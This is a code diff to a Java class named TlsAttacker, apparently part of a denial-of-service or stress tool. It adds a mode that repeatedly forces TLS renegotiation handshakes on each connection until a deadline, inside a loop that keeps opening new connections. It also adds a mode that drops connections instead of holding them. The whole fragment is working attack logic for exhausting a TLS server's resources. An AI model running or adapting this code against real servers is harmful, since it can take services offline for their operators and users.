@@ -14,6 +14,7 @@ import java.util.concurrent.atomic.AtomicLong;
 
 import javax.net.ssl.SSLContext;
 import javax.net.ssl.SSLEngine;
+import javax.net.ssl.SSLSocket;
 
 /** Attacks over TLS, with a thread for each connection. */
 final class TlsAttacker {
@@ -60,14 +61,28 @@ final class TlsAttacker {
 
     private void attack() {
         while (System.nanoTime() < end) {
-            try (Socket socket = Connections.open(uri)) {
+            try (Socket socket = Connections.open(uri, attack.manner() == Attack.Manner.RENEGOTIATES)) {
                 opened.incrementAndGet();
                 socket.setSoTimeout(attack.then().length > 0 ? (int) attack.everyMillis() : 5000);
                 send(socket, attack.first());
-                hold(socket);
+                if (attack.manner() == Attack.Manner.RENEGOTIATES) {
+                    renegotiate((SSLSocket) socket);
+                } else if (attack.manner() != Attack.Manner.LEAVES) {
+                    hold(socket);
+                }
             } catch (IOException e) {
                 // The receiver closed the connection or did not take it; the next one follows.
             }
+        }
+    }
+
+    private void renegotiate(SSLSocket socket) throws IOException {
+        while (System.nanoTime() < end) {
+            socket.startHandshake();
+            if (socket.getInputStream().read() < 0) {
+                return;
+            }
+            answers.incrementAndGet();
         }
     }
 
